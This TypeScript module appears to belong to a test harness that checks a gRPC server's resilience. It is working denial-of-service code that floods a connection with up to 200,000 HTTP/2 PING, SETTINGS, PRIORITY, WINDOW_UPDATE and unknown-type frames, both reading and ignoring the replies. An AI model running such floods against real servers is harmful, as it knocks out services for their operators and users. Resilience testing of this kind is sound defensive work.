// Frames that ask for nothing but attention: pings, settings, priorities, windows; with and without reading what is
// answered.

import { once } from "node:events";
import { connect } from "node:net";
import type { Attack } from "../attack.ts";
import { frameOf, ping, preface } from "../../harness/frames.ts";

const FRAMES = 200_000;
const AT_ONCE = 2000;
const [PRIORITY, SETTINGS, WINDOW_UPDATE, UNKNOWN] = [2, 4, 8, 99];

const floods = [
  ping,
  frameOf(SETTINGS, 0, 0, Buffer.alloc(0)),
  frameOf(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 1])),
  frameOf(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
  frameOf(UNKNOWN, 0, 0, Buffer.alloc(0)),
];

export const attack: Attack = {
  title: "sends 200,000 pings, settings, priorities and windows",
  run: async ({ grpcAddress }) => {
    for (const flood of floods) for (const reads of [true, false]) await send(grpcAddress, flood, reads);
  },
};

/** Sends as many as the other side takes: it may end the connection, or read no more where nothing is read here. */
async function send(address: string, flood: Buffer, reads: boolean): Promise<void> {
  const { hostname, port } = new URL(`http://${address}`);
  const connection = connect(Number(port), hostname);
  connection.on("error", () => undefined);
  if (reads) connection.resume();
  await once(connection, "connect");
  connection.write(preface);
  const chunk = Buffer.concat(Array.from({ length: AT_ONCE }, () => flood));
  for (let sent = 0; sent < FRAMES && !connection.destroyed; sent += AT_ONCE) {
    const stuck = Promise.withResolvers<boolean>();
    const timer = setTimeout(() => stuck.resolve(false), 1000);
    connection.write(chunk, (error) => stuck.resolve(!error));
    const goesOn = await stuck.promise;
    clearTimeout(timer);
    if (!goesOn) break;
  }
  connection.destroy();
}
